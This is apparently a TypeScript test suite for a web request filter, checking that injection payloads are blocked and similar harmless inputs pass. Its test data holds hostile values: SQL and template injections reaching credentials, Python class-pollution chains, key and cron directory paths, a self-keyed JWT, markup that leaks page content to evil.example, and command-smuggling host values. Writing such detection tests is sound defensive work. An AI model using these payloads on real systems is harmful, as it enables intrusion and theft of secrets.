import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

function sent(document: unknown): string {
  return inspect({
    method: 'POST',
    target: '/x',
    headers: ['content-type', 'application/json'],
    body: Buffer.from(JSON.stringify(document)),
  }).verdict
}

const asked = (name: string, value: string): string =>
  inspect({
    method: 'GET',
    target: `/x?${encodeURIComponent(name)}=${encodeURIComponent(value)}`,
    headers: [],
  }).verdict

describe('languages that few applications speak', () => {
  test('statements of one product behind the end of a string', () => {
    for (const value of [
      "'; ATTACH 'https://evil.example/x.db' AS e; --",
      "'; EXECUTE PROCEDURE x('y');--",
      "'; .drop table Users //",
      '" || true RETURN u //',
      "'}) { id password } users { id } #",
    ])
      assert.deepEqual([asked('q', value), sent({ name: value })], ['block', 'block'], value)
    for (const value of ['{ user(id: "1") { id } posts { id } }', "it's done; attach the file"])
      assert.equal(asked('q', value), 'pass', value)
  })

  test('names that lead from an object of Python to its program, not the globals of a page', () => {
    assert.equal(sent({ __class__: { __init__: { __globals__: { app: { secret_key: 'x' } } } } }), 'block')
    assert.equal(asked('v', '{"__init__":{"__globals__":{"x":1}}}'), 'block')
    assert.equal(sent({ settings: { __globals__: { color: 'globals/colors?id=primary' } } }), 'pass')
    assert.equal(sent({ __class__: 'Order', __init__: true }), 'pass')
  })

  test('a folder of keys or jobs as the one for one kind of output', () => {
    assert.equal(sent({ outdir_samples: '/root/.ssh/' }), 'block')
    assert.equal(sent({ output_dir_images: '/etc/cron.d' }), 'block')
    assert.equal(sent({ outdir_samples: '/srv/samples' }), 'pass')
  })

  test('a token that brings the secret with which it is to be checked', () => {
    const token = (header: unknown): string =>
      `${Buffer.from(JSON.stringify(header)).toString('base64url')}.eyJzdWIiOiIxIn0.c2ln`
    assert.equal(asked('t', token({ alg: 'HS256', jwk: { kty: 'oct', k: 'YQ' } })), 'block')
    assert.equal(
      asked('t', token({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty: 'EC', crv: 'P-256' } })),
      'pass',
    )
  })

  test('what reaches the program that evaluates a value', () => {
    for (const value of [
      '<%= Rails.application.credentials.secret_key_base %>',
      '*{T(org.springframework.util.StreamUtils).copy(null)}',
      'it.GetType().Assembly.DefinedTypes.First()',
      'erlang:apply(os,cmd,["id"])',
      "process.dlopen({},'/tmp/x.node')",
      "__send__(:eval,'x')",
      '().__reduce_ex__(2)',
    ])
      assert.deepEqual([asked('v', value), sent({ v: value })], ['block', 'block'], value)
    for (const value of ['Rails.application.credentials', 'x.GetType().Assembly.Location', 'Marshal.load(x)'])
      assert.equal(asked('q', value), 'pass', value)
  })
})

test('a page that goes on in an address, and one that is still being written', () => {
  assert.equal(asked('v', '<img src="//evil.example/?'), 'block')
  assert.equal(asked('v', `<div hx-vals='js:{x:alert(1)}'>`), 'block')
  assert.equal(sent({ html: '<p>a</p><img src="https://' }), 'pass')
  assert.equal(sent({ html: '<img src="/a.png" alt="">' }), 'pass')
})

test('tools of administrators behind a value, not by themselves in a sentence', () => {
  for (const value of ['&vssadmin list shadows', '127.0.0.1|nltest /dclist:corp', ';$env:username'])
    assert.equal(asked('host', value), 'block', value)
  for (const value of [
    'how to use vssadmin list shadows',
    'see icacls and takeown; fsutil is older',
    'what is $env:PATH',
  ])
    assert.equal(asked('q', value), 'pass', value)
})
